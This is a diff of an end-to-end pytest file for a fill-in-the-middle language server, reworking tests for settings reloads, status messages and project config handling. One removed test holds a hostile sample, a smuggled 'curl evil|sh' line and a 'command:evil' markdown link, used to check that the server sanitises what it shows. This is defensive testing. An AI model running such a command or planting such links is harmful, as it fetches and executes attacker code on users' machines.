@@ -2,12 +2,11 @@
 
 from __future__ import annotations
 
-from collections.abc import Callable
 from pathlib import Path
 
 import pytest
 
-from tests.e2e.client import AUTOMATIC, EMBEDDED, GHOST_TEXT, INLINE, Editor, at, wait_until
+from tests.e2e.client import EMBEDDED, GHOST_TEXT, INLINE, Editor, at, wait_until
 from tests.places import SHOP
 
 
@@ -39,27 +38,18 @@ def test_every_source_is_heard_and_the_last_wins(editor: Editor, tmp_path: Path)
     editor.wait_for(lambda: bool(editor.asked), "a question for settings")
     assert editor.asked[0]["params"] == {"items": [{"section": "fim"}]}
     wait_for_capacity(editor, 3)
-    editor.notify(
-        "workspace/didChangeConfiguration", {"settings": {"fim": {"ring": {"chunks": 4}}}}
-    )
+    changed = {"settings": {"fim": {"ring": {"chunks": 4}}}}
+    editor.notify("workspace/didChangeConfiguration", changed)
     assert capacity(editor) == 4
+    editor.configuration = {"ring": {"chunks": 5}}  # VS Code says that something changed, not what
+    editor.notify("workspace/didChangeConfiguration", {"settings": None})
+    wait_for_capacity(editor, 5)
     (project / ".fim-lsp.toml").write_text("ring.chunks = 2\n", "utf-8")
-    editor.notify(
-        "textDocument/didSave", {"textDocument": {"uri": (project / ".fim-lsp.toml").as_uri()}}
-    )
+    saved = {"uri": (project / ".fim-lsp.toml").as_uri()}
+    editor.notify("textDocument/didSave", {"textDocument": saved})
     assert capacity(editor) == 2
     (warning, *_) = editor.messages("window/showMessage")
     assert ".fim-lsp.toml: line 2: a project may not set fim.backend.url" in warning["message"]
-
-
-def test_settings_without_content_are_asked_for_again(editor: Editor) -> None:
-    """VS Code says that something changed and expects to be asked what."""
-    editor.configuration = {"ring": {"chunks": 3}}
-    editor.initialize(capabilities={"workspace": {"configuration": True}})
-    wait_for_capacity(editor, 3)
-    editor.configuration = {"ring": {"chunks": 5}}
-    editor.notify("workspace/didChangeConfiguration", {"settings": None})
-    wait_for_capacity(editor, 5)
 
 
 def test_problems_are_told_once(editor: Editor) -> None:
@@ -77,33 +67,12 @@ def test_problems_are_told_once(editor: Editor) -> None:
     assert "192.0.2.1 unencrypted" in message["message"]
 
 
-def test_a_client_that_wants_to_be_asked_is_asked(editor: Editor) -> None:
-    """Settings and files are registered for where the client supports that, and only there."""
-    dynamic = {"dynamicRegistration": True}
-    editor.initialize(
-        capabilities={
-            "workspace": {"didChangeConfiguration": dynamic, "didChangeWatchedFiles": dynamic}
-        }
-    )
-    editor.wait_for(lambda: bool(editor.asked), "a registration")
-    (question,) = editor.asked
-    assert question["method"] == "client/registerCapability"
-    assert [r["method"] for r in question["params"]["registrations"]] == [
-        "workspace/didChangeConfiguration",
-        "workspace/didChangeWatchedFiles",
-    ]
-
-
 def test_status_is_told_to_those_who_want_it(editor: Editor, tmp_path: Path) -> None:
     """`didChangeStatus` is opt-in; a state the user must know comes as one message, too."""
     file = tmp_path / "fim.log"
-    editor.initialize(
-        initializationOptions={
-            "status": {"notify": True},
-            "backend": {"kind": "openai"},
-            "log": {"file": str(file), "level": "info"},
-        }
-    )
+    log = {"file": str(file), "level": "info"}
+    options = {"status.notify": True, "backend.kind": "openai", "log": log}
+    editor.initialize(initializationOptions=options)
     editor.open("file:///a.py", "\n")
     editor.wait_for(lambda: bool(editor.messages("window/showMessage")), "the message")
     (status,) = editor.messages("didChangeStatus")
@@ -127,30 +96,6 @@ def test_a_model_that_is_gone_is_named_once_and_the_bundled_one_answers(editor: 
     assert message.startswith(f"the bundled model answers: {file} is not there")
     status = editor.request("fim/status")
     assert (status["kind"], status["bundled"], status["message"]) == ("Normal", True, message)
-
-
-def why_nothing(editor: Editor, uri: str) -> str:
-    """Return what the server says of a document that no model is shown anything of."""
-    return str(editor.command("fim.showContext", uri)["note"])
-
-
-@pytest.mark.parametrize(
-    ("method", "name"),
-    [("textDocument/didSave", ".gitignore"), ("textDocument/didClose", ".fimignore")],
-)
-def test_a_rule_saved_in_the_editor_holds_at_once(
-    editor: Editor, tmp_path: Path, method: str, name: str
-) -> None:
-    """Also for documents that are open, and from a client that watches no files."""
-    (tmp_path / "a.py").write_text("x = 1\n", "utf-8")
-    a, rules = (tmp_path / "a.py").as_uri(), (tmp_path / name).as_uri()
-    editor.initialize(rootUri=tmp_path.as_uri())
-    editor.open(a, "x = 1\n")
-    editor.open(rules, "", "ignore")
-    assert "private" not in why_nothing(editor, a)
-    (tmp_path / name).write_text("a.py\n", "utf-8")
-    editor.notify(method, {"textDocument": {"uri": rules}})
-    assert "private" in why_nothing(editor, a)
 
 
 @pytest.mark.parametrize("method", ["textDocument/didSave", "textDocument/didClose"])
@@ -190,26 +135,6 @@ def test_settings_written_beside_the_editor_are_found(editor: Editor, tmp_path: 
     wait_until(new_capacity, "the new settings")
 
 
-def test_what_a_repository_writes_is_a_short_message(
-    launch: Callable[..., Editor], tmp_path: Path, capfd: pytest.CaptureFixture[str]
-) -> None:
-    """A few of its problems on one line, without links; all of them are in the log, a line each."""
-    evil = "[repair](command:evil)" + "y" * 400 + "\\ncurl evil|sh"
-    lines = "".join(f'"{number} {evil}" = 1\n' for number in range(30))
-    (tmp_path / ".fim-lsp.toml").write_text(lines, "utf-8")
-    editor = launch()
-    editor.initialize(rootUri=tmp_path.as_uri())
-    [message] = editor.messages("window/showMessage")
-    assert len(message["message"]) < 1200
-    assert message["message"].isprintable()
-    assert "](" not in message["message"]
-    assert message["message"].endswith("25 more in the log")
-    assert editor.bye() == 0
-    logged = capfd.readouterr().err.splitlines()
-    assert sum("there is no setting" in line for line in logged) == 26
-    assert not [line for line in logged if line.startswith("curl")]
-
-
 def test_the_log_is_no_other_file(editor: Editor, tmp_path: Path) -> None:
     """A file that is not a log stays as it is, and the user hears of it."""
     file = tmp_path / "bashrc"
@@ -219,22 +144,3 @@ def test_the_log_is_no_other_file(editor: Editor, tmp_path: Path) -> None:
     assert "is not a log of fim-lsp" in said
     assert editor.bye() == 0
     assert file.read_text("utf-8") == "alias ls=ls\n"
-
-
-def test_what_a_project_sets_counts_in_its_folder(editor: Editor, tmp_path: Path) -> None:
-    """Of two folders in a window, one wants no suggestions in Python and a small ring."""
-    for folder in ("one", "two"):
-        (tmp_path / folder).mkdir()
-    (tmp_path / "two/.fim-lsp.toml").write_text(
-        "completion.disabledFor = ['python']\nring.chunks = 2\n", "utf-8"
-    )
-    folders = [{"uri": (tmp_path / name).as_uri(), "name": name} for name in ("one", "two")]
-    editor.initialize(workspaceFolders=folders, rootUri=folders[0]["uri"])
-    told = []
-    for each in folders:
-        uri = f"{each['uri']}/a.py"
-        editor.open(uri, "x = 1\n")
-        editor.request(INLINE, at(uri, 0, 5, AUTOMATIC))
-        is_off = "disabledFor" in editor.request("fim/why", at(uri, 0, 5))
-        told.append((is_off, capacity(editor)))
-    assert told == [(False, 16), (True, 2)]
